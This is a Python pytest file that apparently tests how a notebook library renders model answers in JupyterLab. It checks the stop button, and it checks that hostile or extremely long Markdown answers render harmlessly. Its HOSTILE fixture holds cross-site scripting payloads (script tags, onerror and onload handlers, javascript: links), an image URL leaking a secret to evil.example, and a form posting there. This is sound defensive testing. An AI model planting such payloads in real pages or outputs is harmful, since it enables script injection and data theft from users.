"""Answers in JupyterLab in Chromium. Skipped unless HF_TEXT_BROWSER names a Chromium and JupyterLab is installed."""

from __future__ import annotations

import os
from collections.abc import Iterator
from typing import TYPE_CHECKING

import pytest

from hf_text.emulator import Emulator, Response

if TYPE_CHECKING:
    from lab import Lab

CHROMIUM = os.environ.get("HF_TEXT_BROWSER", "")
pytestmark = pytest.mark.skipif(not CHROMIUM, reason="HF_TEXT_BROWSER names no Chromium")

HOSTILE = """
<script>alert(1); document.title = "taken"</script>
<img src=x onerror="alert(2)"><iframe src="https://evil.example/"></iframe>
[link](javascript:alert(3)) ![picture](https://evil.example/?secret)
<svg onload=alert(4)><a href="javascript:alert(5)">x</a>

```html
<script>alert(6)</script>
```

> <style>* { display: none }</style><form action="https://evil.example/"><button>Send</button></form>
"""
LONG = 64_000  # characters
SHAPES = [
    HOSTILE,
    *(mark * LONG for mark in "~`*[$<_(|"),
    *(
        unit * (LONG // len(unit))
        for unit in ("> - ", "*a ", "# a\n", "a\n===\n\n", "- [ ] a\n", "> a\n\n", "[a]: https://e.example\n", "$x$ ")
    ),
    *(
        unit * (LONG // len(unit))
        for unit in ("<div>\n<p>a</p>\n</div>\n", "$$\nx\n$$\n\n", "**a** ", "a  \n", "***\n")
    ),
    "| a | b |\n|---|---|\n" + "| a | b |\n" * (LONG // 10),
    "```python\n" + "x = f(1)  # one\n" * (LONG // 16) + "```",
    "```python\n" + "(" * LONG + "\n```",
    "$" + "x+" * (LONG // 2) + "$",
    "".join("  " * (line % 30) + "- a\n" for line in range(LONG // 33)),
    "".join(">" * (line % 9 + 1) + " a\n" for line in range(LONG // 8)),
]
CELLS = [
    "from hf_text.notebook import show\nimport hf_text\nhf_text.client.default_client()",
    'show("Tell me a story.")',
    'print("usable")',
    'show("Be hostile.")',
]


@pytest.fixture
def lab(emulator: Emulator, monkeypatch: pytest.MonkeyPatch) -> Iterator[Lab]:
    monkeypatch.setenv("HF_TOKEN", "hf_MadeUpKeyForTests")
    for name, value in emulator.environ.items():
        monkeypatch.setenv(name, value)
    from lab import opening_lab  # needs playwright

    with opening_lab(CELLS, chromium=CHROMIUM) as lab:
        lab.run_cell(0)
        lab.watch()
        yield lab


def test_the_stop_button_keeps_what_arrived_and_the_kernel_survives(emulator: Emulator, lab: Lab) -> None:
    emulator.reply(Response.text("Once", " upon", finish=None, done=False, end="stall"))
    lab.run_cell(1, wait=False)
    lab.wait_until(lambda state: "Once upon" in str(state["outputs"][1]))
    lab.press_stop()
    lab.wait_until(lambda state: state["kernel"] == "idle" and len(state["outputs"][1]) == 2)
    lab.run_cell(2)
    saved = lab.save()
    shown, error = saved["cells"][1]["outputs"]
    assert "stopped" in "".join(shown["data"]["text/markdown"])
    assert str(saved).count("Once upon") == 2  # one output, as Markdown and as plain text
    assert error["ename"] == "KeyboardInterrupt"
    assert "usable" in str(saved["cells"][2]["outputs"])


@pytest.mark.timeout(900)
def test_a_hostile_answer_does_nothing(emulator: Emulator, lab: Lab) -> None:
    """Also prints the rendering time of each answer, for comparison by hand."""
    title = lab.page.title()
    for text in SHAPES:
        emulator.reply(Response.text(text))
        print(repr(text[:20]), lab.measure(3))
        output = ".jp-OutputArea-output"
        assert lab.page.locator(f"{output} script, {output} iframe, {output} img, {output} form").count() == 0
        assert lab.page.locator(f"{output} a[href^='javascript']").count() == 0
    assert (lab.dialogs, lab.foreign, lab.page.title()) == ([], [], title)
